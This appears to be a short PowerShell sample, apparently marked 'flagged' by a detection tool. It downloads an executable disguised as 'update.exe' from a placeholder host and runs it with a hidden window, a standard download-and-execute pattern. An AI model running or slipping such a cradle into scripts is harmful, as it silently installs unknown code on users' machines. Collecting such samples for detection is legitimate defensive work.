$path = "$env:TEMP\update.exe"
(New-Object Net.WebClient).DownloadFile("https://files.example.invalid/update.exe", $path)
Start-Process -FilePath $path -WindowStyle Hidden # gatehouse: flagged
